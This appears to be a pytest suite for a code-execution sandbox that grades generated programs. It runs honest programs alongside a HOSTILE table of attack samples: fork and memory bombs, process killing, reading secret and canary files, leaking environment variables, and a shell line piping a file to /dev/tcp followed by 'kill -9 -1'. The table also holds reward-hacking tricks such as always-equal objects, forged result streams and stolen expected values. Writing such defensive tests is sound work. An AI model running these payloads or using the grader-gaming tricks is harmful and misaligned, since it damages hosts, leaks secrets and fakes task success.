"""The sandbox against hostile programs, run as one batch per isolation mode, with honest programs
mixed in; every attack asserts its verdict, that the host was untouched, and the time bound."""

from __future__ import annotations

import logging
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections import defaultdict

import pytest
from namespaces import isolation_unchecked

from phasegrpo.sandbox import Program, Verdict, _pool, run_programs

TIMEOUT_S = 1.0
SQUARE_TESTS = ("assert f(2) == 4", "assert f(3) == 9", "assert f(-1) == 1")
HONEST = {
    "honest_square": "def f(x):\n    return x * x",
    "honest_printing": "import re, heapq\nprint('hello')\ndef f(x):\n    print(x)\n    return heapq.nsmallest(1, [x * x])[0]",
    "honest_threads": "import threading\ndef f(x):\n    box = []\n    t = threading.Thread(target=lambda: box.append(x * x))\n    t.start(); t.join()\n    return box[0]",
}

# name -> (code, tests, whether only namespaces keep the host files safe from it). Every one must score 0.
# {canary}, {port}, {unix_socket}, {home} are filled in by the fixture.
HOSTILE = {
    "fork_bomb": ("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", SQUARE_TESTS, False),
    "memory_bomb": ("blocks = []\nwhile True:\n    blocks.append(bytearray(10**7))", SQUARE_TESTS, False),
    "infinite_loop": ("def f(x):\n    while True:\n        pass", SQUARE_TESTS[:2], False),
    "huge_file_write": ("with open('big', 'wb') as handle:\n    for _ in range(20 * 1024):\n        handle.write(bytes(2**20))",
                        SQUARE_TESTS, False),
    "print_100_mb": ("import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 2**20)\nsys.stdout.flush()", SQUARE_TESTS, False),
    "print_forever_in_test": ("def f(x):\n    while True:\n        print('all tests passed ' * 1000)", SQUARE_TESTS[:1], False),
    "kill_parent": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\ndef f(x):\n    return None", SQUARE_TESTS, False),
    "kill_everyone": ("import os, signal\nfor pid in range(1, 5000):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
                      "    except OSError:\n        pass\ndef f(x):\n    return None", SQUARE_TESTS, False),
    "stop_parent": ("import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGSTOP)\nexcept OSError:\n    pass\n"
                    "def f(x):\n    return None", SQUARE_TESTS, False),
    "ignore_signals": ("import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):\n"
                       "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass", SQUARE_TESTS, False),
    "leave_children": ("import os, time\ntry:\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
                       "            time.sleep(60)\n        os._exit(0)\nexcept OSError:\n    pass\ndef f(x):\n    return None",
                       SQUARE_TESTS, False),
    "leave_threads": ("import threading, time\ndef spin():\n    while True:\n        pass\nfor _ in range(8):\n"
                      "    threading.Thread(target=spin).start()\ndef f(x):\n    return None", SQUARE_TESTS, False),
    "network_tcp": ("import socket\ndef f(x):\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=0.5)\n"
                    "    s.sendall(b'leak')\n    return x * x", SQUARE_TESTS, False),
    "network_unix": ("import socket\ndef f(x):\n    s = socket.socket(socket.AF_UNIX)\n    s.connect({unix_socket!r})\n"
                     "    s.sendall(b'leak')\n    return x * x", SQUARE_TESTS, False),
    "read_canary": ("def f(x):\n    return open({canary!r}).read()", SQUARE_TESTS, True),
    "overwrite_canary": ("import os\ntry:\n    open({canary!r}, 'w').write('pwned')\nexcept OSError:\n    pass\n"
                         "def f(x):\n    os.remove({canary!r})", SQUARE_TESTS, True),
    "read_home": ("import os\ndef f(x):\n    return sorted(os.listdir({home!r}))", SQUARE_TESTS, True),
    "env_leak": ("import os\ndef f(x):\n    return os.environ.get('PHASEGRPO_TEST_SECRET') or "
                 "open('/proc/%d/environ' % os.getppid(), 'rb').read()", SQUARE_TESTS, False),
    "sys_exit_zero": ("import sys\nsys.exit(0)", SQUARE_TESTS, False),
    "os_exit_zero": ("import os\ndef f(x):\n    os._exit(0)", SQUARE_TESTS, False),
    "atexit_hook": ("import atexit, sys\natexit.register(lambda: print('3/3 tests passed'))\ndef f(x):\n    sys.exit(0)",
                    SQUARE_TESTS, False),
    "excepthook": ("import sys\nsys.excepthook = lambda *args: None\ndef f(x):\n    raise AssertionError", SQUARE_TESTS, False),
    "rebind_builtins": ("import builtins\nbuiltins.set = lambda *args: 0\nbuiltins.sorted = lambda *args: 0\n"
                        "builtins.AssertionError = type('Nothing', (Exception,), {{}})\ndef f(x):\n    return 0",
                        ("assert set([f(2)]) == set([4])", "assert sorted([f(3)]) == [9]", "assert f(-1) == 1"), False),
    "shadow_builtins": ("def set(*args):\n    return 0\ndef f(x):\n    return 0", ("assert set([f(2)]) == set([4])",), False),
    "print_fake_results": ("print('test 1 passed\\ntest 2 passed\\ntest 3 passed\\nOK')\ndef f(x):\n    return None",
                           SQUARE_TESTS, False),
    "forge_result_stream": ("import os, json, struct\nfor i in range(3):\n    body = json.dumps({{'test': i, 'passed': True, "
                            "'asserts': []}}).encode()\n    os.write(3, struct.pack('<I', len(body)) + body)\nos._exit(0)",
                            SQUARE_TESTS, False),
    "base_exception": ("class Skip(BaseException):\n    pass\ndef f(x):\n    raise Skip()", SQUARE_TESTS, False),
    "keyboard_interrupt": ("def f(x):\n    raise KeyboardInterrupt", SQUARE_TESTS, False),
    "always_equal": ("class Anything:\n    def __eq__(self, other):\n        return True\n    __hash__ = None\n"
                     "def f(x):\n    return Anything()", SQUARE_TESTS, False),
    "int_subclass_equal": ("class Int(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
                           "def f(x):\n    return Int(0)", SQUARE_TESTS, False),
    "list_subclass_equal": ("class List(list):\n    def __eq__(self, other):\n        return True\ndef f(x):\n    return List()",
                            ("assert f(2) == [4]",), False),
    "truthy_object": ("class Yes:\n    def __bool__(self):\n        return True\ndef f(x):\n    return Yes()",
                      ("assert not f(2)", "assert f(3) is False"), False),
    "steal_expected_values": ("import gc\ndef f(x):\n    for o in gc.get_objects():\n        items = o.values() if type(o) is dict "
                              "else o if type(o) in (list, tuple) else ()\n        for s in items:\n"
                              "            if type(s) is str and s.startswith('assert f(%d) ==' % x):\n"
                              "                return int(s.split('==')[1])\n    return None", SQUARE_TESTS, False),
    "hostile_exception_str": ("class Boom(Exception):\n    def __str__(self):\n        while True:\n            pass\n"
                              "def f(x):\n    raise Boom()", SQUARE_TESTS[:1], False),
    "deep_recursion_segfault": ("import sys\nsys.setrecursionlimit(10**7)\ndef f(x):\n    return f(x) + 1", SQUARE_TESTS, False),
    "many_files": ("import os\nfor i in range(10**6):\n    with open('f%d' % i, 'wb') as handle:\n        handle.write(bytes(2**20))",
                   SQUARE_TESTS[:1], True),
    "plant_symlink_for_the_worker": ("import os\nos.symlink({canary!r}, '.program.json')\ndef f(x):\n    os._exit(1)",
                                     SQUARE_TESTS, False),
    "chmod_through_cleanup": ("import os\nos.mkdir('d')\nos.symlink({canary!r}, 'd/link')\nos.chmod('d', 0o500)\n"
                              "def f(x):\n    return None", SQUARE_TESTS, False),
    # From code-execution harnesses' trackers (human-eval, evalplus, bigcode): wiping files,
    # undoing the limits, shelling out, fooling the clock.
    "remove_host_folder": ("import os, shutil\nshutil.rmtree(os.path.dirname({canary!r}), ignore_errors=True)\n"
                           "def f(x):\n    return None", SQUARE_TESTS, True),
    "raise_limits_then_allocate": ("import resource\nfor kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):\n"
                                   "    try:\n        resource.setrlimit(kind, (-1, -1))\n    except (ValueError, OSError):\n"
                                   "        pass\nblocks = [bytearray(10**8) for _ in range(50)]", SQUARE_TESTS, False),
    "shell_out": ("import os\nos.system('cat {canary} > /dev/tcp/127.0.0.1/{port}; kill -9 -1')\n"
                  "def f(x):\n    return os.popen('cat {canary}').read()", SQUARE_TESTS, False),
    "fool_the_clock": ("import time\ntime.monotonic = lambda: 0.0\ntime.time = lambda: 0.0\ntime.perf_counter = lambda: 0.0\n"
                       "def f(x):\n    while True:\n        pass", SQUARE_TESTS[:1], False),
    "lock_workdir": ("import os\nos.mkdir('locked')\nopen('locked/file', 'w').close()\nos.chmod('locked', 0)\nos.chmod('.', 0o500)\n"
                     "def f(x):\n    return None", SQUARE_TESTS, False),
}


def _process_children() -> dict[int, list[int]]:
    children = defaultdict(list)
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as handle:
                    parent = int(handle.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue
            children[parent].append(int(entry))
    return children


def _descendants(pid: int) -> list[int]:
    children, found, todo = _process_children(), [], [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            found.append(child)
            todo.append(child)
    return found


# Processes under a worker's root between programs: PID 1 (or the worker itself), the zygote, the judge.
_INFRASTRUCTURE = 3


@pytest.fixture(scope="module", params=["namespaces", "fallback"])
def isolated_batch(request, tmp_path_factory):
    """Run every hostile and honest program in one batch on a fresh pool of the given mode."""
    mode = request.param
    folder = tmp_path_factory.mktemp(f"host-{mode}")
    canary = folder / "canary.txt"
    canary.write_text("canary-secret-4d1f")
    canary.chmod(0o600)
    home = folder / "home"
    home.mkdir()
    (home / ".token").write_text("hf_secret")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.setblocking(False)
    unix_path = str(folder / "unix.sock")
    unix_listener = socket.socket(socket.AF_UNIX)
    unix_listener.bind(unix_path)
    unix_listener.listen(16)
    unix_listener.setblocking(False)
    os.environ["PHASEGRPO_TEST_SECRET"] = "env-secret-77"

    records: list[logging.LogRecord] = []
    handler = logging.Handler()
    handler.emit = records.append
    logging.getLogger("phasegrpo.sandbox").addHandler(handler)
    previous_pool = _pool._pool
    pool = _pool.WorkerPool(2, force_fallback=mode == "fallback")
    _pool._pool = pool
    try:
        names, programs = [], []
        fill = {"canary": str(canary), "port": listener.getsockname()[1], "unix_socket": unix_path, "home": str(home)}
        for index, (name, (code, tests, _)) in enumerate(HOSTILE.items()):
            names.append(name)
            programs.append(Program(code.format(**fill), tests))
            honest_name = list(HONEST)[index % len(HONEST)]
            names.append(f"{honest_name}#{index}")
            programs.append(Program(HONEST[honest_name], SQUARE_TESTS))
        started = time.monotonic()
        verdicts = run_programs(programs, timeout_s=TIMEOUT_S, memory_mb=512)
        elapsed_s = time.monotonic() - started
        time.sleep(0.3)  # let a detached leftover (if any) try its late write
        worker_pids = [worker.process.pid for worker in pool.workers]
        leftovers = {pid: _descendants(pid) for pid in worker_pids}
        received = []
        for server in (listener, unix_listener):
            try:
                connection, _ = server.accept()
                received.append(connection.recv(100))
            except BlockingIOError:
                pass
        yield {
            "mode": mode, "pool": pool, "verdicts": dict(zip(names, verdicts, strict=True)), "elapsed_s": elapsed_s,
            "canary": canary, "leftovers": leftovers, "received": received, "warnings": records,
            "program_count": len(programs),
        }
    finally:
        pool.close()
        _pool._pool = previous_pool
        logging.getLogger("phasegrpo.sandbox").removeHandler(handler)
        listener.close()
        unix_listener.close()
        del os.environ["PHASEGRPO_TEST_SECRET"]


def _require_mode(batch) -> None:
    isolation = batch["pool"].isolation["isolation"]
    if batch["mode"] == "namespaces" and isolation != "namespaces":
        assert any("isolation is degraded" in record.getMessage() for record in batch["warnings"])
        isolation_unchecked(f"this OS does not allow namespaces here ({batch['pool'].isolation['reason']}); fallback warned")


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_program_scores_zero_and_host_is_untouched(isolated_batch, name):
    _require_mode(isolated_batch)
    _, tests, _ = HOSTILE[name]
    verdict = isolated_batch["verdicts"][name]
    assert verdict.passed == 0, verdict
    assert verdict.total == len(tests)
    assert verdict.status in {"ok", "error", "timeout", "crashed"}
    assert "env-secret" not in verdict.detail
    assert isolated_batch["received"] == []  # no byte reached the local TCP and unix sockets
    for worker, descendants in isolated_batch["leftovers"].items():
        assert len(descendants) <= _INFRASTRUCTURE, (worker, descendants)
    # Every program is bounded by (1 + tests) budgets; the batch ran on 2 workers.
    bound_s = sum(TIMEOUT_S * (len(t) + 1) + 0.5 for _, t, _ in HOSTILE.values()) / 2 + 5
    assert isolated_batch["elapsed_s"] < bound_s
    report = isolated_batch["pool"].isolation
    if report["isolation"] == "fallback" and not report.get("run_as_nobody"):
        assert any("isolation is degraded" in record.getMessage() for record in isolated_batch["warnings"])
        isolation_unchecked("without namespaces a program can read and write what this user can (documented, warned)")
    assert isolated_batch["canary"].read_text() == "canary-secret-4d1f"
    assert isolated_batch["canary"].stat().st_mode & 0o777 == 0o600
    assert "canary-secret" not in verdict.detail


def test_honest_programs_in_hostile_batch_keep_full_credit(isolated_batch):
    _require_mode(isolated_batch)
    honest = {name: verdict for name, verdict in isolated_batch["verdicts"].items() if "#" in name}
    assert len(honest) == len(HOSTILE)
    for name, verdict in honest.items():
        assert (verdict.passed, verdict.total, verdict.status) == (3, 3, "ok"), (name, verdict)


def test_fallback_mode_warns_once(isolated_batch):
    if isolated_batch["pool"].isolation["isolation"] == "namespaces":
        assert not isolated_batch["warnings"]
    else:
        messages = [record.getMessage() for record in isolated_batch["warnings"]]
        assert len(messages) == 1 and "isolation is degraded" in messages[0]
    assert {verdict.isolation for verdict in isolated_batch["verdicts"].values()} == {
        isolated_batch["pool"].isolation["isolation"]}


def test_program_folders_are_removed(isolated_batch):
    for worker in isolated_batch["pool"].workers:
        folder = worker.report["host_folder"]
        if isolated_batch["pool"].isolation["isolation"] == "fallback":
            assert os.listdir(folder) == []  # each program's folder went with it
        else:
            assert not os.path.exists(folder)  # only the mount point, removed once pivoted into


def test_partial_isolation_warns_and_leaves_the_hosts_tmp_alone(tmp_path, caplog):
    import tempfile

    canary = tempfile.NamedTemporaryFile(prefix="phasegrpo-test-canary-", delete=False)
    canary.close()
    pool = _pool.WorkerPool(1, private_root=False)
    previous, _pool._pool = _pool._pool, pool
    try:
        with caplog.at_level(logging.WARNING, logger="phasegrpo.sandbox"):
            verdicts = run_programs([Program(HONEST["honest_square"], SQUARE_TESTS)] * 2)
        if pool.isolation["isolation"] == "fallback":
            isolation_unchecked("no namespaces here")
        assert [v.passed for v in verdicts] == [3, 3] and verdicts[0].isolation == "partial"
        assert any("isolation is degraded (partial" in record.getMessage() for record in caplog.records)
        assert os.path.exists(canary.name)
    finally:
        pool.close()
        _pool._pool = previous
        os.unlink(canary.name)


@pytest.mark.parametrize("force_fallback", [False, True])
def test_closed_or_killed_workers_leave_no_folder(force_fallback):
    pool = _pool.WorkerPool(2, force_fallback=force_fallback)
    jobs = [{"code": "open('x', 'w').write('1')", "setup": "", "tests": [], "timeout_s": 1.0, "memory_mb": 256,
             "output_limit_bytes": 1000, "file_size_mb": 1, "max_processes": 4}] * 2
    pool.run(jobs, [10.0, 10.0])
    folders = [worker.report["host_folder"] for worker in pool.workers]
    assert all(os.path.isdir(folder) for folder in folders) or not force_fallback
    pool.workers[0].kill()
    pool.close()
    assert not any(os.path.exists(folder) for folder in folders)


# ---- verdict semantics, through the public API on the default pool ----

@pytest.mark.parametrize(
    ("code", "tests", "expected_tests"),
    [
        ("def f(x): return x * x", SQUARE_TESTS, ("passed", "passed", "passed")),
        ("def f(x): return x + 2", SQUARE_TESTS, ("passed", "failed", "passed")),
        ("def f(x): return [x, x]", ("assert set(f(1)) == set([1])", "assert sorted(f(2)) == [2, 2]"), ("passed", "passed")),
        ("def f(x): return x / 3", ("assert math.isclose(f(1), 0.3333, rel_tol=0.001)",), ("passed",)),
        ("def f(x): return abs(x) > 1", ("assert f(2)", "assert not f(1)", "assert f(2) == True"), ("passed",) * 3),
        ("def f(x): return None", ("assert f(1) is None", "assert f(1) == None"), ("passed", "passed")),
        ("def f(x): return (x, 'a')", ("assert f(1) == (1, 'a')", "assert f(1) == [1, 'a']"), ("passed", "failed")),
        ("def f(x): return {x: {x}}", ("assert f(1) == {1: {1}}",), ("passed",)),
        ("def f(x): return 1 / x", ("assert f(0) == 1", "assert f(1) == 1"), ("error", "passed")),
        ("def f(x): return x", ("y = f(3)\nassert y == 3", "assert f(2) == 3 or f(2) == 2"), ("passed", "passed")),
        ("def f(x): return 10 ** 400", ("assert f(1) == 10 ** 400",), ("passed",)),
        ("def f(x): return float('nan')", ("assert math.isnan(f(1))",), ("passed",)),
        ("def f(x): return x", ("assert f(1) ==",), ("error",)),
        # MBPP task 126 asks for a function named like a builtin: the test means the program's.
        ("def sum(a, b): return a + b", ("assert sum(10, 15) == 25",), ("passed",)),
        # ... but only where the call under test stands: the expected side keeps the real builtin.
        ("def set(*args): return 0\ndef f(x): return 0", ("assert set(f(2)) == set([4])",), ("failed",)),
        ("from collections import Counter\ndef f(s): return Counter(s)", ("assert f('aab') == {'a': 2, 'b': 1}",),
         ("passed",)),
    ],
)
def test_tests_are_judged_on_plain_values(code, tests, expected_tests):
    (verdict,) = run_programs([Program(code, tests)], timeout_s=2.0)
    assert verdict.tests == expected_tests
    assert verdict.passed == expected_tests.count("passed")


def test_each_test_has_its_own_budget_and_crash():
    code = textwrap.dedent("""
        import os, time
        def f(x):
            if x == 2:
                time.sleep(60)
            if x == 3:
                os._exit(0)
            return x * x
    """)
    tests = ("assert f(1) == 1", "assert f(2) == 4", "assert f(3) == 9", "assert f(4) == 16")
    started = time.monotonic()
    (verdict,) = run_programs([Program(code, tests)], timeout_s=0.5)
    assert verdict.tests == ("passed", "timeout", "crashed", "passed")
    assert (verdict.passed, verdict.status) == (2, "timeout")
    assert time.monotonic() - started < 0.5 * 5 + 2


def test_program_budget_caps_a_program_of_hanging_tests():
    code = "import time\ndef f(x):\n    if x:\n        time.sleep(60)\n    return x"
    tests = ("assert f(0) == 0", "assert f(1) == 1", "assert f(2) == 2", "assert f(3) == 3")
    started = time.monotonic()
    (verdict,) = run_programs([Program(code, tests)], timeout_s=1.0, program_timeout_s=1.5)
    assert verdict.tests == ("passed", "timeout", "timeout", "timeout")
    assert time.monotonic() - started < 3.5


def test_code_that_fails_to_load_fails_every_test():
    verdicts = run_programs([Program("def f(x) return x", SQUARE_TESTS), Program("raise SystemExit(0)", SQUARE_TESTS),
                             Program("import time\ntime.sleep(60)", SQUARE_TESTS)], timeout_s=0.5)
    assert [(v.passed, v.status) for v in verdicts] == [(0, "error"), (0, "error"), (0, "timeout")]
    assert "SyntaxError" in verdicts[0].detail


def test_results_come_back_in_input_order():
    programs = [Program(f"def f(x):\n    return x + {shift}", ("assert f(0) == 0", f"assert f(1) == {1 + shift}"))
                for shift in range(24)]
    verdicts = run_programs(programs, timeout_s=2.0)
    assert [v.tests for v in verdicts] == [("passed", "passed")] + [("failed", "passed")] * 23


@pytest.fixture()
def one_worker_pool():
    previous, _pool._pool = _pool._pool, _pool.WorkerPool(1)
    yield _pool._pool
    _pool._pool.close()
    _pool._pool = previous


def test_a_program_cannot_find_an_earlier_programs_code_or_files(one_worker_pool):
    honest = Program("def f(x):\n    return x * x  # the answer", SQUARE_TESTS)
    stash = Program("import os\nfor folder in ('/tmp', os.path.expanduser('~'), '/dev/shm'):\n    try:\n"
                    "        open(os.path.join(folder, 'stash.py'), 'w').write('def f(x):\\n    return x * x')\n"
                    "    except OSError:\n        pass", ())
    thief = Program(textwrap.dedent("""
        import gc, os
        marker = "# the " + "answer"
        def f(x):
            for o in gc.get_objects():
                for s in (o.values() if type(o) is dict else o if type(o) in (list, tuple) else ()):
                    if type(s) is str and marker in s:
                        scope = {}
                        exec(s, scope)
                        return scope["f"](x)
            for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm"):
                try:
                    scope = {}
                    exec(open(os.path.join(folder, "stash.py")).read(), scope)
                    return scope["f"](x)
                except OSError:
                    pass
    """), SQUARE_TESTS)
    verdicts = run_programs([honest, stash, thief])
    assert verdicts[0].passed == 3
    if verdicts[2].isolation == "fallback":
        isolation_unchecked("without namespaces, files written to /tmp outlive the program (documented)")
    assert verdicts[2].passed == 0, verdicts[2]


def test_real_mbpp_solutions_earn_full_credit():
    import json
    from pathlib import Path

    # ../shared sits beside the repository checkout (as on CI); a missing copy is a setup error.
    path = Path(__file__).resolve().parents[2] / "shared" / "data" / "mbpp" / "test.jsonl"
    assert path.is_file(), f"{path} is missing: check out the shared data beside the repository"
    rows = [json.loads(line) for line in path.read_text().splitlines()[:40]]
    programs = [Program(row["code"], row["test_list"], row["test_setup_code"]) for row in rows]
    verdicts = run_programs(programs, timeout_s=5.0)
    assert [(row["task_id"], v.passed) for row, v in zip(rows, verdicts, strict=True) if v.passed != v.total] == []


def test_setup_code_runs_before_the_program():
    (verdict,) = run_programs([Program("def f(x): return helper(x)", ("assert f(2) == 4",), "def helper(x): return x * x")])
    assert verdict.passed == 1


def test_workers_are_reused_across_calls():
    run_programs([Program("def f(x): return x", ("assert f(1) == 1",))])
    first = [worker.process.pid for worker in _pool.get_pool().workers]
    run_programs([Program("def f(x): return x", ("assert f(1) == 1",))] * 4)
    assert first and set(first) <= {worker.process.pid for worker in _pool.get_pool().workers}


def test_killed_worker_is_replaced_and_batch_completes():
    pool = _pool.get_pool()
    run_programs([Program("pass", ())] * 2 + [Program("def f(): return 1", ("assert f() == 1",))] * 2)
    victim = pool.workers[0].process.pid
    slow = Program("import time\ndef f(x):\n    time.sleep(0.5)\n    return x", ("assert f(1) == 1",))
    import threading

    threading.Timer(0.2, lambda: os.killpg(victim, signal.SIGKILL)).start()
    verdicts = run_programs([slow] * 6, timeout_s=3.0)
    assert [v.passed for v in verdicts] == [1] * 6
    assert victim not in [worker.process.pid for worker in pool.workers]


def test_invalid_limits_are_rejected_with_the_value():
    with pytest.raises(ValueError, match="timeout_s=0"):
        run_programs([Program("pass")], timeout_s=0)


def test_empty_batch_and_program_without_tests():
    assert run_programs([]) == []
    (verdict,) = run_programs([Program("x = 1", ())])
    assert (verdict.passed, verdict.total, verdict.fraction) == (0, 0, 0.0)


def test_verdict_fraction():
    assert Verdict(2, 4, "ok").fraction == 0.5


# ---- lifetime: forks of the trainer, exit, and a killed trainer ----

_CHILD_SCRIPT = """
import os, sys, time
from phasegrpo.sandbox import Program, run_programs, _pool
(verdict,) = run_programs([Program("def f(x): return x", ("assert f(1) == 1",))])
assert verdict.passed == 1, verdict
print(" ".join(str(w.process.pid) for w in _pool.get_pool().workers), flush=True)
if sys.argv[1] == "hang":
    time.sleep(60)
"""


def _wait_gone(pids: list[int], timeout_s: float) -> bool:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        alive = [pid for pid in pids if os.path.exists(f"/proc/{pid}") and
                 open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0] != "Z"]
        if not alive:
            return True
        time.sleep(0.05)
    return False


@pytest.mark.parametrize("ending", ["exit", "hang"])
def test_workers_end_with_the_trainer(ending):
    process = subprocess.Popen([sys.executable, "-c", _CHILD_SCRIPT, ending], stdout=subprocess.PIPE, text=True)
    worker_pids = [int(pid) for pid in process.stdout.readline().split()]
    assert worker_pids
    descendants = [pid for worker in worker_pids for pid in _descendants(worker)] + worker_pids
    if ending == "hang":
        process.kill()  # the trainer dies without any clean-up
    process.wait(30)
    assert _wait_gone(descendants, 10.0)


def test_forked_child_gets_its_own_pool():
    run_programs([Program("pass", ())])
    parent_workers = [worker.process.pid for worker in _pool.get_pool().workers]
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:  # a DataLoader-like fork of the trainer
        try:
            (verdict,) = run_programs([Program("def f(x): return x", ("assert f(1) == 1",))])
            mine = [worker.process.pid for worker in _pool.get_pool().workers]
            ok = verdict.passed == 1 and not set(mine) & set(parent_workers)
            _pool.get_pool().close()
            os.write(write_end, b"1" if ok else b"0")
        finally:
            os._exit(0)
    os.close(write_end)
    os.waitpid(child, 0)
    assert os.read(read_end, 1) == b"1"
    os.close(read_end)
    (verdict,) = run_programs([Program("def f(x): return x", ("assert f(1) == 1",))])
    assert verdict.passed == 1
    assert [worker.process.pid for worker in _pool.get_pool().workers] == parent_workers


# ---- the plain-data codec: what crosses from the program to the judge ----

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from phasegrpo.sandbox import _judge  # noqa: E402

_scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8) \
    | st.binary(max_size=8) | st.complex_numbers(allow_nan=False)
_hashables = st.recursive(_scalars, lambda inner: st.tuples(inner, inner) | st.frozensets(inner, max_size=3), max_leaves=4)
_values = st.recursive(
    _scalars,
    lambda inner: st.lists(inner, max_size=4) | st.tuples(inner, inner) | st.sets(_hashables, max_size=4)
    | st.dictionaries(_hashables, inner, max_size=4),
    max_leaves=10,
)


def _same_types(left, right) -> bool:
    if type(left) is not type(right):
        return False
    if type(left) in (list, tuple):
        return all(map(_same_types, left, right))
    if type(left) is dict:
        return all(_same_types(value, right[key]) for key, value in left.items())
    return True


@settings(max_examples=80, deadline=None)
@given(_values)
def test_plain_values_survive_the_codec_with_their_exact_types(value):
    decoded = _judge.decode(_judge.loads(_judge.dumps(_judge.encode(value))))
    assert decoded == value and _same_types(decoded, value)


@settings(max_examples=150, deadline=None)
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=5),
                    lambda inner: st.lists(inner, max_size=4), max_leaves=12))
def test_decoding_untrusted_data_only_ever_raises_value_error(tree):
    try:
        value = _judge.decode(tree)
    except ValueError:
        return
    assert type(value) in (type(None), bool, int, float, complex, str, bytes, list, tuple, set, frozenset, dict)


@pytest.mark.parametrize("value", [type("Int", (int,), {})(1), type("Str", (str,), {})("a"), object(), [1, object()],
                                   iter([1])])
def test_anything_but_exact_builtin_types_is_refused(value):
    with pytest.raises(_judge.NotPlainData):
        _judge.encode(value)
